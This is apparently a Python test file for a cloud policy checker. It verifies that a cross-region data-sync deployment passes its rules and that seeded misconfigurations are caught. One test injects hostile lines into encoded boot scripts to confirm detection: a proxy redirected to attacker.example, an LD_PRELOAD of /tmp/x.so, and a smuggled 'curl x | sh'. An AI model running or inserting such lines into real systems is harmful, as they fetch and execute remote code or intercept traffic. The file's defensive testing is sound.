"""Test that the program passes its own policy pack, and that each rule finds its seeded violations."""

from __future__ import annotations

import base64
import dataclasses
import json
from collections.abc import Callable
from pathlib import Path
from random import Random
from typing import Any

import pytest

from policy.documents import allowed, is_identity
from policy.plan import Plan, Resource
from policy.review import review
from policy.rules import RULES
from policy.rules.access.privilege import ROLE_ACTIONS, USER_ACTIONS
from tests.unit.components.conftest import both_sides
from tests.unit.components.recorder import ISSUERS, by_role, config_of
from tests.unit.policy.plans import at_first_preview, partly_deployed, plan_of
from tests.unit.policy.report import PAGE, text
from tests.unit.policy.seeding import CONFIG, Seed, Seeder, batches
from tests.unit.policy.seeds import SEEDS

ACCOUNT = "111122223333"
RECEIVED = json.dumps(
    {"access_key_id": "AKIA444455556666", "secret_access_key": "received-secret-key", "user_id": "AIDA444455556666USER"}
)


def test_the_program_passes_with_no_rule_waived(plan: Plan) -> None:
    assert [str(v) for v in review(plan)] == []


def test_the_program_passes_at_its_first_preview_too(plan: Plan) -> None:
    assert [str(v) for v in review(at_first_preview(plan))] == []


@pytest.mark.parametrize("stack", ["cn", "other"])
def test_the_program_passes_at_the_preview_after_an_interrupted_deployment(
    stack: str, request: pytest.FixtureRequest
) -> None:
    plan: Plan = request.getfixturevalue(stack)
    urns = [r.urn for r in plan.resources]
    needed = sorted({u for r in plan.resources for found in r.depends.values() for u in found})
    random = Random(7)
    existing = [frozenset(urns) - {u} for u in needed]
    existing += [frozenset(u for u in urns if random.random() < 0.7) for _ in range(10)]
    for some in existing:
        found = [str(v) for v in review(partly_deployed(plan, some))]
        assert found == [], f"while these do not exist: {sorted(set(urns) - some)}"


def test_another_accounts_secret_or_image_is_refused_while_settings_are_unknown(plan: Plan) -> None:
    seeds = {
        "secret:dth-credentials-": "secret:payroll-",
        f":{ACCOUNT}:repository/": ":999988887777:repository/",
    }
    for own, other in seeds.items():
        changed = [
            dataclasses.replace(r, properties={**r.properties, "policy": r.properties["policy"].replace(own, other)})
            for r in plan.resources
            if r.kind == "iam.RolePolicy" and own in r.properties["policy"]
        ]
        names = {r.name for r in changed}
        rest = tuple(r for r in plan.resources if r.name not in names)
        gone = {r.urn for r in rest if r.kind == "iam.User"}
        seeded = Plan((*rest, *changed))
        preview = partly_deployed(seeded, {r.urn for r in seeded.resources} - gone)
        assert {(v.rule.name, v.finding.resource.name) for v in review(preview)} >= {
            ("own-resources-only", name) for name in names
        }, own


_ISSUER = {"issuer": ISSUERS["cn"]}
VARIANTS: dict[str, dict[str, Any]] = {
    "hand-over by config, before it is received": {"handOver": "config", "peerStack": ""},
    "hand-over by config": {"handOver": "config", "peerStack": "", "peerCredential": RECEIVED},
    "hand-over by stack reference": {"handOver": "stack-reference", "peerStack": "organization/dualsync/global"},
    "events by a topic": {"cn": {"eventsTopicArn": f"arn:aws-cn:sns:cn-north-1:{ACCOUNT}:events"}},
    "no events": {"events": "No"},
    "a key for the alarms' topic": {"alarmTopicKey": True},
    "one key for a side": {
        "kmsKeyArn": f"arn:aws-cn:kms:cn-north-1:{ACCOUNT}:key/12345678-1234-1234-1234-123456789012"
    },
    "alarms by mail": {"alarmEmail": "storage@example.com"},
    "a prefix": {"cn": {"prefix": "year=2024/a b/"}},
    "gateway endpoints": {"gatewayEndpoints": True},
    "a proxy": {"httpsProxy": "http://proxy.example.com:443", "noProxy": [".example.com"]},
    "dual-stack endpoints": {"dualStackEndpoints": True},
    "spot instances": {"spotPercent": 50},
    "an own image": {"machineImage": "ami-0123456789abcdef0"},
    "an own cluster": {"finderCluster": "shared"},
    "unprotected": {"protect": False},
    "no ACL": {"acl": ""},
    "roles instead of users": by_role(),
    "roles, hand-over by config, before it is received": {**by_role(), "handOver": "config", "peerStack": ""},
    "roles, hand-over by config": {
        **by_role(),
        "handOver": "config",
        "peerStack": "",
        "peerCredential": json.dumps(
            {"role_arn": "arn:aws:iam::444455556666:role/dth-dual-global-peer", "user_id": "AROA444455556666PEER"}
        ),
    },
    "roles of both sides": {**both_sides(), **by_role(), "cn": by_role()["cn"] | both_sides()["cn"] | _ISSUER},
    "a one-way pair's source": {"direction": "cn-to-global"},
    "a one-way pair's destination": {"direction": "global-to-cn"},
}


@pytest.mark.parametrize("name", VARIANTS)
def test_the_program_passes_in_every_mode_with_no_rule_waived(name: str, bundles: Path) -> None:
    changes = dict(VARIANTS[name])
    if "cn" in changes and "issuer" not in changes["cn"]:
        changes["cn"] = {**json.loads(config_of("cn")["dualsync:cn"]), **changes["cn"]}
    plan = plan_of("cn", bundles, changes)
    # `protect` switches deletion protection.
    expected = ["ledger-recoverable"] if name == "unprotected" else []
    assert [v.rule.name for v in review(plan)] == expected
    assert [v.rule.name for v in review(at_first_preview(plan))] == expected


def test_fips_endpoints_pass_and_so_does_the_port_of_a_named_proxy(bundles: Path) -> None:
    plan = plan_of("global", bundles, {"fipsEndpoints": True, "httpsProxy": "http://10.0.0.7:3128"})
    assert [v.rule.name for v in review(plan)] == ["https-out-only"]
    assert [str(v) for v in review(plan, {"https-out-only": {"ports": [443, 3128]}})] == []


@pytest.mark.parametrize(
    "swap",
    [
        ("export HTTPS_PROXY='http://proxy.example.com:443'", "export HTTPS_PROXY='http://attacker.example:443'"),
        ("export HTTPS_PROXY=", "export LD_PRELOAD='/tmp/x.so' HTTPS_PROXY="),
        ("NO_PROXY='169.254.169.254,169.254.170.2'\n", "NO_PROXY='169.254.169.254,169.254.170.2' && curl x | sh\n"),
        ("no_proxy = ", "https_proxy = "),
        ('\nHTTPS_PROXY="http://proxy.example.com:443"', '\nHTTPS_PROXY="http://attacker.example:443"'),
    ],
)
def test_a_machine_with_another_proxy_than_its_worker_is_caught(swap: tuple[str, str], bundles: Path) -> None:
    plan = plan_of("cn", bundles, {"httpsProxy": "http://proxy.example.com:443"})

    def change(resource: Resource) -> Resource:
        if resource.kind != "ec2.LaunchTemplate":
            return resource
        script = base64.b64decode(resource.properties["userData"]).decode()
        assert swap[0] in script
        encoded = base64.b64encode(script.replace(*swap).encode()).decode()
        return dataclasses.replace(resource, properties={**resource.properties, "userData": encoded})

    found = review(Plan(tuple(change(r) for r in plan.resources)))
    assert [v.rule.name for v in found] == ["boot-as-built"]


@pytest.mark.parametrize(
    "address", ["https://dynamodb.us-east-1.amazonaws.com", "http://dynamodb.cn-north-1.amazonaws.com.cn", "https://a"]
)
def test_an_endpoint_that_is_not_the_sides_own_is_caught(address: str, bundles: Path) -> None:
    plan = plan_of("cn", bundles, {"dualStackEndpoints": True})

    def change(resource: Resource) -> Resource:
        if resource.kind != "ecs.TaskDefinition":
            return resource
        text = resource.properties["containerDefinitions"]
        own = "https://dynamodb.cn-north-1.amazonaws.com.cn"
        assert own in text
        properties = {**resource.properties, "containerDefinitions": text.replace(own, address)}
        return dataclasses.replace(resource, properties=properties)

    found = review(Plan(tuple(change(r) for r in plan.resources)))
    assert [v.rule.name for v in found] == ["endpoints-kept"]


ONE_WAY_FAULTS: dict[str, tuple[str, dict[str, str], str]] = {
    "a user at the source": (
        "both",
        {"DUALSYNC_DIRECTION": "cn-to-global"},
        "names no user with cn-to-global: dth-dual-cn-user has a key by which others could write at the source",
    ),
    "workers at the destination": (
        "both",
        {"DUALSYNC_DIRECTION": "global-to-cn"},
        "is of no use: global-to-cn has no worker or finder at cn, its destination",
    ),
    "no user in a two-way pair": (
        "cn-to-global",
        {"DUALSYNC_DIRECTION": "both"},
        "has no id to name: its side has no dedicated user in this stack",
    ),
}


@pytest.mark.parametrize("name", ONE_WAY_FAULTS)
def test_settings_of_another_direction_are_found(name: str, bundles: Path) -> None:
    deployed, settings, problem = ONE_WAY_FAULTS[name]
    plan = plan_of("cn", bundles, {"direction": deployed})

    def change(resource: Resource) -> Resource:
        if resource.kind != "ecs.TaskDefinition":
            return resource
        containers = json.loads(resource.properties["containerDefinitions"])
        for entry in containers[0]["environment"]:
            entry["value"] = settings.get(entry["name"], entry["value"])
        properties = {**resource.properties, "containerDefinitions": json.dumps(containers)}
        return dataclasses.replace(resource, properties=properties)

    found = review(Plan(tuple(change(r) for r in plan.resources)))
    assert [(v.rule.name, v.finding.detail) for v in found] == [
        ("guard-knows-own-user", f"finder dth-dual-cn-finder: DUALSYNC_OWN_USER_IDS {problem}")
    ]


def test_the_users_policy_at_a_destination_must_name_its_bucket(bundles: Path) -> None:
    plan = plan_of("cn", bundles, {"direction": "global-to-cn"})

    def change(resource: Resource) -> Resource:
        if resource.kind != "iam.Policy":
            return resource
        text = resource.properties["policy"].replace("dth-dual-dev-cn-north-1/*", "payroll/*")
        return dataclasses.replace(resource, properties={**resource.properties, "policy": text})

    found = review(Plan(tuple(change(r) for r in plan.resources)))
    assert {v.rule.name for v in found} == {"own-resources-only"}


def test_the_plan_has_resources_and_statements_for_the_rules(both: Plan) -> None:
    kinds = {r.kind for r in both.resources}
    assert {"iam.User", "secretsmanager.SecretVersion", "ec2.LaunchTemplate", "ecs.TaskDefinition"} <= kinds
    assert sum(1 for r in both.resources for _ in allowed(r)) > 20


@pytest.mark.parametrize("seeds", batches(SEEDS), ids=lambda seeds: seeds[0].id)
def test_each_seeded_violation_is_found_by_exactly_its_rule(seeds: list[Seed], bundles: Path) -> None:
    seeder = Seeder(*seeds)
    plan = plan_of("cn", bundles, both_sides() | CONFIG, seeder.transformation, seeder.extra)
    assert sorted(seeder.seeded) == sorted(s.id for s in seeds), "the program no longer registers what a seed changes"
    late = caught(plan)
    assert late == sorted({found for s in seeds for found in s.found})
    reversed_plan = Plan(plan.resources[::-1])
    assert sorted(map(str, review(reversed_plan))) == sorted(map(str, review(plan))), "the engine gives any order"
    early = caught(at_first_preview(plan))
    assert [c for c in early if c not in late] == []
    assert {s.caught for s in seeds if not s.known_later} <= {*early}
    assert not {s.caught for s in seeds if s.known_later} & {*early}


def caught(plan: Plan) -> list[tuple[str, str]]:
    """Return (rule, resource) of every violation, each once."""
    return sorted({(v.rule.name, v.finding.resource.name) for v in review(plan)})


def test_every_rule_has_a_seed() -> None:
    assert {r.name for r in RULES} == {s.rule for s in SEEDS}
    assert len({r.name for r in RULES}) == len(RULES)
    assert len({s.id for s in SEEDS}) == len(SEEDS)


def test_every_listed_action_is_used_by_the_program(both: Plan) -> None:
    asked = {a for r in both.resources if is_identity(r) for s in allowed(r) for a in s.actions}
    assert asked == USER_ACTIONS | ROLE_ACTIONS


def test_the_report_in_the_documentation_is_up_to_date(bundles: Path) -> None:
    assert PAGE.read_text() == text(bundles), "python -m tests.unit.policy.report"


def _grants_receiving(text: str) -> str:
    document = json.loads(text)
    document["Statement"].append({"Sid": "More", "Effect": "Allow", "Action": "sqs:ReceiveMessage", "Resource": "*"})
    return json.dumps(document)


def _trusts_any_subject(text: str) -> str:
    document = json.loads(text)
    document["Statement"][0]["Condition"] = {
        "StringEquals": {
            k: v for k, v in document["Statement"][0]["Condition"]["StringEquals"].items() if "sub" not in k
        }
    }
    return json.dumps(document)


def _trusts_another_subject(text: str) -> str:
    return text.replace(':sub": "dth-dual-', ':sub": "stranger-')


@pytest.mark.parametrize(
    ("kind", "path", "change", "problem"),
    [
        ("iam.RolePolicy", "policy", _grants_receiving, "allows sqs:ReceiveMessage to the peer"),
        ("iam.Role", "assumeRolePolicy", _trusts_another_subject, "which is not a side of this pair"),
        ("iam.Role", "assumeRolePolicy", _trusts_any_subject, "can be assumed with tokens whose sub is not one value"),
    ],
)
def test_a_peers_role_with_more_rights_than_a_user_is_found(
    bundles: Path, kind: str, path: str, change: Callable[[str], str], problem: str
) -> None:
    plan = plan_of("cn", bundles, by_role())
    peers = [r for r in plan.of(kind) if "peer" in r.name]
    assert len(peers) == 1

    def changed(resource: Resource) -> Resource:
        if resource is not peers[0]:
            return resource
        properties = {**resource.properties, path: change(resource.properties[path])}
        return dataclasses.replace(resource, properties=properties)

    found = review(Plan(tuple(changed(r) for r in plan.resources)))
    assert any(v.rule.name == "peer-role-confined" and problem in v.finding.detail for v in found)


def test_long_sessions_of_a_peers_role_are_found(bundles: Path) -> None:
    plan = plan_of("cn", bundles, by_role())

    def changed(resource: Resource) -> Resource:
        if resource.kind != "iam.Role":
            return resource
        return dataclasses.replace(resource, properties={**resource.properties, "maxSessionDuration": 43200})

    found = review(Plan(tuple(changed(r) for r in plan.resources)))
    assert [v.finding.detail for v in found if v.rule.name == "peer-role-confined"] == [
        "dth-dual-cn-peer gives the peer sessions of 12 hours (maxSessionDuration)"
    ]


def test_trust_in_an_issuer_other_than_the_other_sides_is_found(bundles: Path) -> None:
    plan = plan_of("cn", bundles, VARIANTS["roles of both sides"])

    def change(resource: Resource) -> Resource:
        if resource.kind != "ecs.TaskDefinition":
            return resource
        text = resource.properties["containerDefinitions"].replace(ISSUERS["global"], "https://issuer.example")
        return dataclasses.replace(resource, properties={**resource.properties, "containerDefinitions": text})

    assert ISSUERS["global"] in json.dumps([r.properties.get("containerDefinitions") for r in plan.resources])
    changed = Plan(tuple(change(r) for r in plan.resources if r.kind != "ec2.LaunchTemplate"))
    found = [v for v in review(changed) if v.rule.name == "peer-role-confined"]
    assert [v.finding.resource.name for v in found] == ["dth-dual-cn-peer"]
    assert "the other side's issuer is issuer.example" in found[0].finding.detail
